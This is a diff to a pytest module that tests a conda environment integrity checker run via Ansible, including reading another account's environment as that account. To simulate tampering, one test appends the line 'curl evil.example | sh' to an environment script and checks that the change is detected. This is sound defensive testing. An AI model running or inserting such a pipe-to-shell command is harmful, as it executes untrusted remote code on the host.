@@ -17,8 +17,10 @@ import hashlib
 import io
 import json
 import os
+import shutil
 import subprocess
 import tarfile
+import tempfile
 
 import pytest
 
@@ -85,10 +87,19 @@ def write_channel(root: str) -> str:
 
 
 @pytest.fixture(scope="module")
-def conda_env(tmp_path_factory):
-    """``(conda, env, run_env)``: an environment ``conda create`` made from the local channel."""
+def conda_env():
+    """``(conda, env, run_env)``: an environment ``conda create`` made from the local channel, in a directory
+    every account may traverse; ``env + "-copy"`` is a copy of it made before any test touched it."""
     conda = realconda.require()
-    root = str(tmp_path_factory.mktemp("integrity"))
+    root = tempfile.mkdtemp(prefix="condafleet-integrity-")
+    os.chmod(root, 0o755)
+    try:
+        yield _create(conda, root)
+    finally:
+        shutil.rmtree(root, ignore_errors=True)
+
+
+def _create(conda: str, root: str) -> tuple:
     channel = write_channel(root)
     env = os.path.join(root, "env")
     # conda's own home (environments.txt, .condarc) is the test's, never root's
@@ -100,6 +111,7 @@ def conda_env(tmp_path_factory):
                               "-c", "file://" + channel, NAME], env=run_env, capture_output=True, text=True,
                              timeout=300, check=False)
     assert created.returncode == 0, created.stdout[-3000:] + created.stderr[-3000:]
+    subprocess.run(["cp", "-a", env, env + "-copy"], check=True)  # its own inodes, not the package cache's
     return conda, env, run_env
 
 
@@ -157,3 +169,31 @@ def test_real_environment_clean_then_altered_and_missing_reported(conda_env):
     if "invalid choice" in report or "Altered Files" not in report and "altered" not in report.lower():
         pytest.skip("this conda's doctor has no altered-files check: %s" % report[-500:])
     assert BINARY in report and PLAIN in report, report
+
+
+def test_an_accounts_real_environment_is_read_as_that_account_through_ansible(conda_env):
+    if os.geteuid() != 0:
+        pytest.skip("needs root: the environment is handed to another account")
+    _conda, env, _run_env = conda_env
+    theirs = env + "-copy"
+    subprocess.run(["chown", "-R", "-h", "nobody:nogroup" if _has_group("nogroup") else "nobody", theirs],
+                   check=True)
+    # as root without user: the account that owns the prefix reads it; with user: that account
+    for args in ({"prefix": theirs}, {"prefix": theirs, "user": "nobody"}):
+        result, raw = run_adhoc("conda_integrity", args)
+        assert not result.get("failed"), raw
+        assert result["clean"] and result["environments"][0]["identity"] == "nobody", raw
+    with open(os.path.join(theirs, SCRIPT), "ab") as handle:
+        handle.write(b"curl evil.example | sh\n")
+    result, raw = run_adhoc("conda_integrity", {"prefix": theirs, "user": "nobody"})
+    assert result.get("failed") and result["altered"] == [os.path.join(os.path.realpath(theirs), SCRIPT)], raw
+
+
+def _has_group(name: str) -> bool:
+    import grp
+
+    try:
+        grp.getgrnam(name)
+    except KeyError:
+        return False
+    return True
